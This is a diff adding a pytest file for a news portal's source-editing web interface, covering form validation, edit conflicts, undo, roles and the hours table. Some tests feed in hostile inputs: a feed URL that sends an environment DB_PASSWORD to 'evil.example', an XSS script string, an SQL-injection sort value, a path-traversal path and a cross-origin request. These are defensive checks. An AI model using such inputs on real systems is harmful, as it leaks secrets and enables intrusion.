@@ -1,0 +1,344 @@
+"""One source, the whole file, its versions and the table of hours: every change is checked, kept, logged, and can be taken back."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from datetime import timedelta
+from pathlib import Path
+from types import ModuleType
+from typing import Any
+
+import httpx
+import pytest
+from lxml import html as lxml_html
+
+from newsportal.sources import load
+from newsportal.sources.history import versions
+from newsportal.storage import open_store
+from newsportal.storage.base import SourceState
+from newsportal.visits import Visit
+
+TEXT = """\
+portal: {title: 晨报}
+topics: [{name: 港口}, {name: 旅游}]
+# 来源
+feeds:
+  - name: 甲报   # 第一个
+    url: https://a.example/feed
+    topics: [港口]
+  # 第二个
+  - name: 乙报
+    url: https://b.example/feed?token=geheim
+regions:
+  - {name: 丙网, prefix: "https://c.example/news/", hours: 6-23}
+"""
+
+
+@pytest.fixture
+def path(tmp_path: Path) -> Path:
+    file = tmp_path / "sources.yaml"
+    file.write_text(TEXT, "utf-8")
+    return file
+
+
+@pytest.fixture
+def made(serve: Any, newsroom: ModuleType, path: Path) -> Iterator[Any]:
+    """``made(role)`` answers a client of this role over the file."""
+    store = open_store(f"sqlite:///{path.parent / 'store.db'}")
+    for number in range(40):
+        at = newsroom.NOW - timedelta(hours=2 * number)
+        store.visits.add(Visit("feed:甲报", at, list_pages=1, entries=9, new=3, stored=3))
+    store.save_source_state(
+        SourceState("feed:甲报", last_run=newsroom.NOW - timedelta(hours=1), next_visit=newsroom.NOW + timedelta(hours=3))
+    )
+
+    def start(role: str | None = "editor", **options: Any) -> httpx.Client:
+        client: httpx.Client = serve(store, settings=load(path), role=role, reread_every=0, **options)
+        client.store = store  # type: ignore[attr-defined]
+        return client
+
+    yield start
+    store.close()
+
+
+def fields(page: str) -> dict[str, list[str]]:
+    """What a browser would send of the form on a source's page."""
+    wanted = "//main//form[.//*[@name='url' or @name='prefix' or @name='text']]"
+    (form,) = lxml_html.document_fromstring(page).xpath(wanted)
+    return {name: [value] for name, value in form.form_values()} | {
+        "topics": [value for name, value in form.form_values() if name == "topics"]
+    }
+
+
+def save(client: httpx.Client, path: str, **changes: Any) -> httpx.Response:
+    sent = fields(client.get(path).text) | {key.replace("__", "."): value for key, value in changes.items()}
+    return client.post(path, data={key: value for key, value in sent.items() if value is not None}, follow_redirects=True)
+
+
+def undo_of(page: str) -> str:
+    (action,) = re.findall(r'action="(/sources/undo/[^"]+)"', page)
+    return str(action)
+
+
+def test_a_form_shows_the_file_and_saving_it_unchanged_writes_nothing(made: Any, path: Path) -> None:
+    client = made()
+    page = client.get("/sources/feed:甲报").text
+    sent = fields(page)
+    assert (sent["name"], sent["url"], sent["topics"]) == (["甲报"], ["https://a.example/feed"], ["港口"])
+    assert "没有改动" in save(client, "/sources/feed:甲报").text
+    assert path.read_text("utf-8") == TEXT
+    assert versions(path) == []
+
+
+def test_a_change_is_written_where_it_stands_and_can_be_undone(made: Any, path: Path) -> None:
+    client = made()
+    page = save(client, "/sources/feed:甲报", interval="45", topics=["旅游"], article__body=".content", verify_certificate=None)
+    assert page.status_code == 200
+    text = path.read_text("utf-8")
+    for line in (
+        "  - name: 甲报   # 第一个",
+        "    topics: [旅游]",
+        "    interval: 45",
+        "      body: .content",
+        "    verify_certificate: false",
+    ):
+        assert line in text.splitlines()
+    assert "  # 第二个" in text
+    assert load(path).feeds[0].interval == 45
+    back = client.post(undo_of(page.text), content="", headers={"content-type": "application/x-www-form-urlencoded"}, follow_redirects=True)
+    assert "已恢复原状" in back.text
+    assert path.read_text("utf-8") == TEXT
+    client.post(undo_of(back.text), data={"x": ""})
+    assert path.read_text("utf-8") == text, "going back can be undone, too"
+
+
+@pytest.mark.parametrize(
+    ("changes", "field", "zh", "en"),
+    [
+        ({"url": "ftp://a.example/"}, "url", "不是网址", "is no Web address"),
+        ({"url": ""}, "url", "缺少", "is missing"),
+        ({"name": "乙报"}, "name", "已被使用", "name of another one"),
+        ({"name": "甲/乙"}, "name", "斜杠", "holds a slash"),
+        ({"interval": "bald"}, "interval", "不是数字", "is no number"),
+        ({"interval": "-3"}, "interval", "必须大于 0", "must be more than 0"),
+        ({"article__body": "p:::"}, "article.body", "", ""),
+        ({"topics": ["没有"]}, "topics", "不存在", "is not there"),
+    ],
+)
+def test_a_mistake_is_told_beside_its_field_in_the_readers_language_and_what_was_typed_is_kept(
+    made: Any, path: Path, changes: dict[str, Any], field: str, zh: str, en: str
+) -> None:
+    client = made()
+    for language, words in (("zh", zh), ("en", en)):
+        client.headers["accept-language"] = language
+        page = save(client, "/sources/feed:甲报", **changes)
+        assert page.status_code == 422
+        document = lxml_html.document_fromstring(page.text)
+        (wrong,) = document.xpath("//div[contains(@class, 'wrong')]")
+        assert wrong.xpath(f".//*[@name='{field}']")
+        assert words in wrong.xpath("string(.//p[@class='desk-fault'])")
+        typed = next(iter(changes.values()))
+        kept = fields(page.text)[field]
+        assert kept == (typed if isinstance(typed, list) else [typed])
+    assert path.read_text("utf-8") == TEXT
+
+
+def test_what_two_people_change_is_shown_to_the_second_and_nothing_is_lost(made: Any, path: Path) -> None:
+    client = made()
+    mine = fields(client.get("/sources/feed:甲报").text) | {"category": ["财经"]}
+    save(client, "/sources/feed:甲报", category="体育")
+    page = client.post("/sources/feed:甲报", data=mine)
+    assert page.status_code == 409
+    (field,) = lxml_html.document_fromstring(page.text).xpath("//div[contains(@class, 'desk-field')][.//*[@name='category']]")
+    assert field.xpath(".//input/@value") == ["财经"]
+    assert "体育" in field.text_content()
+    assert load(path).feeds[0].category == "体育"
+    client.post("/sources/feed:甲报", data=fields(page.text), follow_redirects=True)
+    assert load(path).feeds[0].category == "财经", "saved again on purpose"
+    other = fields(client.get("/sources/feed:乙报").text) | {"category": ["国际"]}
+    save(client, "/sources/feed:甲报", category="文化")
+    client.post("/sources/feed:乙报", data=other)
+    assert [feed.category for feed in load(path).feeds] == ["文化", "国际"], "another entry's change is no conflict"
+
+
+def test_off_on_removed_and_back(made: Any, path: Path) -> None:
+    client = made()
+    client.post("/sources/feed:甲报/enable", data={"enabled": "", "next": "/sources"})
+    assert not load(path).feeds[0].enabled
+    assert "停用" in client.get("/sources?state=off").text
+    client.post("/sources/feed:甲报/enable", data={"enabled": "yes"})
+    assert load(path).feeds[0].enabled
+    page = client.post("/sources/feed:乙报/delete", data={"x": ""}, follow_redirects=True)
+    assert [feed.name for feed in load(path).feeds] == ["甲报"]
+    assert "# 第一个" in path.read_text("utf-8")
+    assert client.get("/sources/feed:乙报").status_code == 404
+    save(client, "/sources/feed:甲报", category="后来")
+    client.post(undo_of(page.text), data={"x": ""})
+    assert load(path).feeds[0].category == "后来", "an undo does not take back what others changed since"
+    kept = versions(path)[1]
+    client.post(f"/sources/versions/{kept.id}", data={"seen": ""})
+    assert len(load(path).feeds) == 1, "without having seen the file nothing goes back"
+
+
+def test_a_source_of_every_kind_is_added_by_its_form(made: Any, path: Path) -> None:
+    client = made()
+    new = {
+        "feeds": {"url": "https://x.example/feed"},
+        "sitemaps": {"url": "https://x.example/sitemap.xml", "limit": "50", "allow": "/news/\n/text/"},
+        "regions": {"prefix": "https://x.example/news/", "hours": "6-9,18-23"},
+        "forums": {"url": "https://bbs.example/", "depth": "3"},
+        "galleries": {"seeds": "https://x.example/p/\nhttps://x.example/q/", "weight": "7"},
+        "engines": {"url": "https://x.example/s?q=##QUERY##", "wrapper.block": "div.result"},
+    }
+    for kind, values in new.items():
+        assert client.get(f"/sources/write?kind={kind}").status_code == 200
+        done = client.post("/sources/write", data={"list": kind, "name": f"新{kind}", "verify_certificate": "yes", **values})
+        assert done.status_code == 303, kind
+    known = load(path)
+    assert known.sitemaps[0].allow == ("/news/", "/text/")
+    assert known.galleries[0].seeds == ("https://x.example/p/", "https://x.example/q/")
+    assert known.regions[1].hours == (6, 7, 8, 9, 18, 19, 20, 21, 22, 23)
+    assert known.engines[0].wrapper is not None
+    assert client.post("/sources/write", data={"list": "topics", "name": "x"}).status_code == 404
+    assert client.get("/sources/write?kind=store").status_code == 404
+
+
+def test_editors_cannot_send_the_environment_to_an_address(made: Any, path: Path) -> None:
+    editor, admin = made(), made("admin")
+    told = {"list": "feeds", "name": "坏", "url": "https://evil.example/?x=${DB_PASSWORD:-}", "verify_certificate": "yes"}
+    page = editor.post("/sources/write", data=told)
+    assert page.status_code == 422
+    assert "只有管理员" in page.text
+    assert "evil" not in path.read_text("utf-8")
+    assert admin.post("/sources/write", data=told).status_code == 303
+
+
+def test_names_and_addresses_are_escaped_and_secrets_are_not_listed(made: Any, path: Path) -> None:
+    client = made()
+    name = "<script>alert(1)<|script> \" ' & %7B"
+    done = client.post(
+        "/sources/write", data={"list": "feeds", "name": name, "url": "https://x.example/?a=<b>", "verify_certificate": "yes"}
+    )
+    assert done.status_code == 303
+    for address in ("/sources", done.headers["location"], "/schedule", "/sources/versions"):
+        page = client.get(address)
+        assert page.status_code == 200, address
+        assert "<script>alert" not in page.text
+        assert "geheim" not in page.text
+    assert load(path).feeds[-1].name == name
+
+
+def test_the_list_is_searched_filtered_sorted_and_paged(made: Any, path: Path) -> None:
+    many = "".join(f"  - {{name: 第{number}报, url: 'https://n{number}.example/feed', category: 地方}}\n" for number in range(250))
+    path.write_text(TEXT.replace("regions:", many + "regions:"), "utf-8")
+    client = made()
+
+    def keys(query: str) -> list[str]:
+        page = client.get(f"/sources{query}")
+        assert page.status_code == 200
+        return list(lxml_html.document_fromstring(page.text).xpath("//tr/@data-source"))
+
+    assert len(keys("")) == 100
+    assert len(keys("?page=3")) == 53
+    assert keys("?page=99") == keys("?page=3")
+    assert keys("?page=x&sort=';drop") == keys("")
+    assert keys("?q=n17.example") == ["feed:第17报"]
+    assert keys("?q=地方&sort=name")[0] == "feed:第0报"
+    assert keys("?kind=region") == ["region:丙网"]
+    assert keys("?sort=kind&page=3")[-1] == "region:丙网"
+    assert keys("?sort=new")[0] == "feed:甲报"
+    assert "没有符合条件" in client.get("/sources?q=nirgends").text
+
+
+def test_the_whole_file_is_for_administrators_checked_and_never_written_over_another(made: Any, path: Path) -> None:
+    assert made().get("/sources/file").status_code == 403
+    assert made().post("/sources/file", data={"text": "x", "seen": "x"}).status_code == 403
+    admin = made("admin")
+    sent = fields(admin.get("/sources/file").text)
+    assert sent["text"][0].strip() == TEXT.strip()
+    broken = admin.post("/sources/file", data=sent | {"text": [TEXT.replace("url:", "uri:", 1)]})
+    assert broken.status_code == 422
+    assert "feeds[0].uri" in broken.text
+    assert "uri: https://a.example/feed" in broken.text, "what was typed is kept"
+    path.write_text(TEXT + "# von Hand\n", "utf-8")
+    clash = admin.post("/sources/file", data=sent | {"text": [TEXT.replace("晨报", "晚报")]})
+    assert clash.status_code == 409
+    assert "# von Hand" in clash.text
+    assert "晚报" in clash.text
+    assert "# von Hand" in path.read_text("utf-8")
+    done = admin.post("/sources/file", data=fields(clash.text), follow_redirects=True)
+    assert done.status_code == 200
+    assert path.read_text("utf-8").strip() == TEXT.replace("晨报", "晚报").strip()
+    assert "晚报" in admin.get("/").text, "it counts at once"
+    (kept,) = versions(path)
+    shown = admin.get(f"/sources/versions/{kept.id}").text
+    assert "# von Hand" in shown
+    assert "# von Hand" not in made().get(f"/sources/versions/{kept.id}").text, "the text may hold passwords"
+    assert admin.get("/sources/versions/..%2Fsources").status_code == 404
+
+
+def test_visiting_now_makes_it_due_and_says_who_crawls(made: Any, newsroom: ModuleType) -> None:
+    looked: list[int] = []
+    alone, crawling = made(), made(pushed=lambda: looked.append(1))
+    page = alone.post("/sources/feed:甲报/run", data={"x": ""}, follow_redirects=True)
+    assert "newsportal up" in page.text
+    state = alone.store.source_state("feed:甲报")
+    assert state.next_visit == newsroom.NOW
+    page = crawling.post("/sources/feed:甲报/run", data={"x": ""}, follow_redirects=True)
+    assert looked
+    assert "newsportal up" not in page.text
+    (poll,) = re.findall(r'hx-get="([^"]+)"', page.text)
+    crawling.store.save_source_state(SourceState("feed:甲报", last_run=newsroom.NOW + timedelta(minutes=1)))
+    crawling.store.visits.add(Visit("feed:甲报", newsroom.NOW + timedelta(minutes=1), list_pages=1, entries=77, new=3))
+    done = crawling.get(poll.replace("&amp;", "&"), headers={"hx-request": "true"})
+    assert "77" in done.text
+    assert "hx-get" not in done.text
+    assert "<html" not in done.text
+    alone.post("/sources/feed:乙报/enable", data={"enabled": ""})
+    assert "停用" in alone.post("/sources/feed:乙报/run", data={"x": ""}, follow_redirects=True).text
+    assert alone.post("/sources/feed:没有/run", data={"x": ""}).status_code == 404
+
+
+def test_the_table_of_hours_shows_what_is_expected_and_is_changed_there(made: Any, path: Path) -> None:
+    client = made()
+    document = lxml_html.document_fromstring(client.get("/schedule").text)
+    rows = {row.get("data-source"): row for row in document.xpath("//tr[@data-source]")}
+    assert set(rows) == {"feed:甲报", "feed:乙报", "region:丙网"}
+    assert len(rows["feed:甲报"].xpath(".//td//rect[contains(@class, 'shade')]")) == 24
+    assert len(rows["region:丙网"].xpath(".//rect[contains(@class, 'off')]")) == 6
+    assert len(rows["region:丙网"].xpath(".//rect[@class='on']")) == 18
+    assert "每天约" in rows["feed:甲报"].text_content()
+    assert "style=" not in client.get("/schedule").text
+    page = client.post("/schedule/region:丙网", data={"interval": "90", "hours": "8-20"}, follow_redirects=True)
+    assert load(path).regions[0].interval == 90
+    assert load(path).regions[0].hours == tuple(range(8, 21))
+    client.post(undo_of(page.text), data={"x": ""})
+    assert path.read_text("utf-8") == TEXT
+    wrong = client.post("/schedule/region:丙网", data={"interval": "", "hours": "zu spät"}, follow_redirects=True)
+    assert "不是时段" in wrong.text
+
+
+@pytest.mark.parametrize("role", [None, "reader"])
+def test_readers_change_nothing(made: Any, path: Path, role: str | None) -> None:
+    client = made(role)
+    if role is None:
+        client.headers["origin"] = str(client.base_url)
+    for address in ("/sources", "/sources/new", "/sources/feed:甲报", "/sources/file", "/sources/versions", "/schedule"):
+        assert client.get(address).status_code == (303 if role is None else 403), address
+    for address in (
+        "/sources/feed:甲报",
+        "/sources/feed:甲报/delete",
+        "/sources/feed:甲报/enable",
+        "/sources/feed:甲报/run",
+        "/sources/new",
+    ):
+        assert client.post(address, data={"name": "x"}).status_code == (303 if role is None else 403), address
+    assert path.read_text("utf-8") == TEXT
+
+
+def test_changes_from_elsewhere_are_refused(made: Any, path: Path) -> None:
+    client = made()
+    client.headers["origin"] = "https://evil.example"
+    assert client.post("/sources/feed:甲报/delete", data={"x": ""}).status_code == 403
+    assert path.read_text("utf-8") == TEXT
